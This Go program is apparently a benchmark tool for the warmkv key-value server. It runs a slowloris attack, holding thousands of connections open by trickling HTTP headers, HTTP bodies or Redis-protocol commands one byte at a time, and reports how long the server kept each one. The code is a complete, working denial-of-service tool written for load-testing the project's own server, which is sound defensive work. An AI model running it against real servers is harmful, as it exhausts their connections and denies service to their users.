// Command slowloris holds many connections open against warmkv the way slow
// and hostile clients do, and reports how long the server kept each one before
// cutting it off. bench/slow.sh runs it next to wrk's normal clients.
//
// Three kinds of attacker, each a number of connections kept open for the
// whole attack (one cut off is reopened at once, as a real attacker would):
//
//   - headers: sends an HTTP request's headers one byte per -interval, never
//     finishing them (the classic slowloris);
//   - bodies: sends complete headers announcing a -body-len byte body at once,
//     then the body one byte per -interval;
//   - resp: sends a Redis-protocol command one byte per -interval.
//
// Once every connection is open it prints "ready" on stdout. Four times a
// second it prints to stderr how many of each kind are open ("open unix=...
// headers=N bodies=N resp=N"), so that a script can tell how many were held
// while it measured. On SIGINT or SIGTERM (or after -duration) it stops and
// prints one "result" line per kind on stdout:
//
//	result kind=headers opened=3000 cut=2000 open_at_end=1000 oldest_open_s=4.10
//	       held_min_s=5.00 held_p50_s=5.01 held_p90_s=5.02 held_max_s=5.30
//	       outcomes=408:2000 dial_errors=0
//
// (on one line): held_* describe the connections the server cut off, from
// the moment the connection was open to the moment the server answered or
// closed it; outcomes says how (an HTTP status, "closed" without an answer,
// "reset"). open_at_end counts those still open when the attack stopped, and
// oldest_open_s is the age of the oldest of them: far beyond the server's
// timeouts, it means the server never cut that one off.
package main

import (
	"bytes"
	"context"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"os"
	"os/signal"
	"slices"
	"sort"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"
)

func main() {
	httpAddr := flag.String("http", "", "warmkv HTTP address, host:port (needed for -headers and -bodies)")
	respAddr := flag.String("resp", "", "warmkv Redis-protocol address, host:port (needed for -resp-conns)")
	headers := flag.Int("headers", 1000, "connections trickling request headers")
	bodies := flag.Int("bodies", 1000, "connections trickling a request body")
	respConns := flag.Int("resp-conns", 0, "Redis-protocol connections trickling a command")
	interval := flag.Duration("interval", time.Second, "time between two bytes on one connection")
	bodyLen := flag.Int("body-len", 8000, "Content-Length the body senders announce (keep it under MAX_BODY_BYTES, or they are refused at once)")
	duration := flag.Duration("duration", 2*time.Minute, "stop after this long even without a signal")
	dialers := flag.Int("dial-parallel", 64, "connections being opened at once")
	flag.Parse()
	if *headers < 0 || *bodies < 0 || *respConns < 0 || *interval <= 0 || *bodyLen < 1 || *dialers < 1 {
		fail("need -headers, -bodies, -resp-conns >= 0, -interval > 0, -body-len >= 1, -dial-parallel >= 1")
	}
	if (*headers > 0 || *bodies > 0) && *httpAddr == "" {
		fail("-http is required for -headers and -bodies")
	}
	if *respConns > 0 && *respAddr == "" {
		fail("-resp is required for -resp-conns")
	}

	kinds := []*kind{
		{name: "headers", addr: *httpAddr, conns: *headers, stream: headerStream()},
		{name: "bodies", addr: *httpAddr, conns: *bodies, preamble: bodyPreamble(*bodyLen), stream: bodyStream()},
		{name: "resp", addr: *respAddr, conns: *respConns, stream: respStream()},
	}

	ctx, stop := signal.NotifyContext(context.Background(), syscall.SIGINT, syscall.SIGTERM)
	defer stop()
	ctx, cancel := context.WithTimeout(ctx, *duration)
	defer cancel()

	a := &attack{interval: *interval, dialSlots: make(chan struct{}, *dialers)}
	var firstOpen, all sync.WaitGroup
	for _, k := range kinds {
		for range k.conns {
			firstOpen.Add(1)
			all.Add(1)
			go func() {
				defer all.Done()
				a.hold(ctx, k, firstOpen.Done)
			}()
		}
	}
	firstOpen.Wait()
	var open []string
	for _, k := range kinds {
		open = append(open, fmt.Sprintf("%s=%d", k.name, k.open.Load()))
	}
	fmt.Println("ready", strings.Join(open, " "))

	go report(ctx, kinds)
	<-ctx.Done()
	end := time.Now()
	all.Wait()
	for _, k := range kinds {
		if k.conns > 0 {
			fmt.Println(k.result(end))
		}
	}
}

func fail(msg string) {
	fmt.Fprintln(os.Stderr, "slowloris:", msg)
	os.Exit(2)
}

// kind is one kind of attacker and what happened to its connections.
type kind struct {
	name     string
	addr     string
	conns    int
	preamble []byte           // sent at once on connecting
	stream   func(i int) byte // then byte i of this, one per interval, forever
	open     atomic.Int64

	mu         sync.Mutex
	opened     int
	held       []time.Duration // connections the server cut off
	outcomes   map[string]int
	dialErrors int
	openSince  map[*time.Time]struct{} // connections not cut off, by open time
}

type attack struct {
	interval  time.Duration
	dialSlots chan struct{}
}

// hold keeps one connection of kind k open until ctx ends, reopening it
// whenever the server cuts it off. opened is called once the first attempt
// is over.
func (a *attack) hold(ctx context.Context, k *kind, opened func()) {
	first := true
	for ctx.Err() == nil {
		a.dialSlots <- struct{}{}
		conn, err := (&net.Dialer{Timeout: 5 * time.Second}).DialContext(ctx, "tcp", k.addr)
		<-a.dialSlots
		if err != nil {
			k.mu.Lock()
			k.dialErrors++
			k.mu.Unlock()
			if first {
				opened()
				first = false
			}
			select {
			case <-ctx.Done():
			case <-time.After(100 * time.Millisecond):
			}
			continue
		}
		start := time.Now()
		k.connected(&start)
		if first {
			opened()
			first = false
		}
		outcome := a.trickle(ctx, conn, k)
		k.disconnected(&start, outcome, time.Since(start))
		conn.Close()
	}
	if first {
		opened()
	}
}

// trickle sends k's bytes on conn until the server answers or closes it, and
// returns how it did ("408", "closed", "reset"), or "" if ctx ended first.
func (a *attack) trickle(ctx context.Context, conn net.Conn, k *kind) string {
	if len(k.preamble) > 0 {
		if _, err := conn.Write(k.preamble); err != nil {
			return "reset"
		}
	}
	buf := make([]byte, 64)
	next := time.Now()
	for i := 0; ; {
		if ctx.Err() != nil {
			return ""
		}
		_ = conn.SetReadDeadline(next)
		n, err := conn.Read(buf)
		if ctx.Err() != nil {
			// Whatever happened after the attack stopped does not count: a
			// cut-off is noticed at once, as Read returns on it.
			return ""
		}
		switch {
		case n > 0:
			return answerStatus(buf[:n])
		case err == nil:
		case isTimeout(err):
			if _, err := conn.Write([]byte{k.stream(i)}); err != nil {
				return "reset"
			}
			i++
			next = next.Add(a.interval)
		case errors.Is(err, io.EOF):
			return "closed"
		default:
			return "reset"
		}
	}
}

// answerStatus names the server's answer by its HTTP status, or "answered"
// for anything else (a Redis-protocol error, say).
func answerStatus(b []byte) string {
	if rest, ok := bytes.CutPrefix(b, []byte("HTTP/1.1 ")); ok && len(rest) >= 3 {
		return string(rest[:3])
	}
	return "answered"
}

func isTimeout(err error) bool {
	var ne net.Error
	return errors.As(err, &ne) && ne.Timeout()
}

func (k *kind) connected(since *time.Time) {
	k.mu.Lock()
	defer k.mu.Unlock()
	if k.openSince == nil {
		k.openSince = make(map[*time.Time]struct{})
		k.outcomes = make(map[string]int)
	}
	k.opened++
	k.openSince[since] = struct{}{}
	k.open.Add(1)
}

// disconnected records the end of the connection opened at since: cut off by
// the server after held (outcome says how), or, with no outcome, still open
// when the attack stopped, in which case it stays in openSince for result.
func (k *kind) disconnected(since *time.Time, outcome string, held time.Duration) {
	k.mu.Lock()
	defer k.mu.Unlock()
	k.open.Add(-1)
	if outcome == "" {
		return
	}
	delete(k.openSince, since)
	k.held = append(k.held, held)
	k.outcomes[outcome]++
}

// result is k's "result" line. Connections still open at the end were opened
// at the latest "oldest_open_s" before it; a server that never cut them off
// shows here as an age far beyond its timeouts.
func (k *kind) result(end time.Time) string {
	k.mu.Lock()
	defer k.mu.Unlock()
	var oldest time.Duration
	for since := range k.openSince {
		oldest = max(oldest, end.Sub(*since))
	}
	stillOpen := len(k.openSince)
	held := slices.Clone(k.held)
	slices.Sort(held)
	q := func(p float64) float64 {
		if len(held) == 0 {
			return 0
		}
		return held[min(len(held)-1, int(p*float64(len(held))))].Seconds()
	}
	names := make([]string, 0, len(k.outcomes))
	for o := range k.outcomes {
		names = append(names, o)
	}
	sort.Strings(names)
	var outcomes []string
	for _, o := range names {
		outcomes = append(outcomes, fmt.Sprintf("%s:%d", o, k.outcomes[o]))
	}
	if len(outcomes) == 0 {
		outcomes = []string{"none"}
	}
	return fmt.Sprintf("result kind=%s opened=%d cut=%d open_at_end=%d oldest_open_s=%.2f held_min_s=%.2f held_p50_s=%.2f held_p90_s=%.2f held_max_s=%.2f outcomes=%s dial_errors=%d",
		k.name, k.opened, len(held), stillOpen, oldest.Seconds(), q(0), q(0.5), q(0.9), q(1), strings.Join(outcomes, ","), k.dialErrors)
}

// report prints the open connections of every kind four times a second.
func report(ctx context.Context, kinds []*kind) {
	t := time.NewTicker(250 * time.Millisecond)
	defer t.Stop()
	for {
		select {
		case <-ctx.Done():
			return
		case now := <-t.C:
			line := fmt.Sprintf("open unix=%.3f", float64(now.UnixNano())/1e9)
			for _, k := range kinds {
				line += fmt.Sprintf(" %s=%d", k.name, k.open.Load())
			}
			fmt.Fprintln(os.Stderr, line)
		}
	}
}

// headerStream is a request whose headers never end: after the request line
// and Host, one padding header after another.
func headerStream() func(int) byte {
	head := "GET /get?key=slowloris HTTP/1.1\r\nHost: 127.0.0.1\r\n"
	line := "X-Slowloris: " + strings.Repeat("a", 48) + "\r\n"
	return func(i int) byte {
		if i < len(head) {
			return head[i]
		}
		return line[(i-len(head))%len(line)]
	}
}

// bodyPreamble is a complete request head announcing a JSON body of n bytes.
func bodyPreamble(n int) []byte {
	return fmt.Appendf(nil, "POST /put HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n", n)
}

// bodyStream is the JSON body, whose value never ends (the connection is cut
// long before Content-Length bytes are sent).
func bodyStream() func(int) byte {
	head := `{"key":"slowloris","value":"`
	return func(i int) byte {
		if i < len(head) {
			return head[i]
		}
		return 'v'
	}
}

// respStream is a SET whose value, announced as 100,000 bytes, never ends.
func respStream() func(int) byte {
	head := "*3\r\n$3\r\nSET\r\n$9\r\nslowloris\r\n$100000\r\n"
	return func(i int) byte {
		if i < len(head) {
			return head[i]
		}
		return 'v'
	}
}
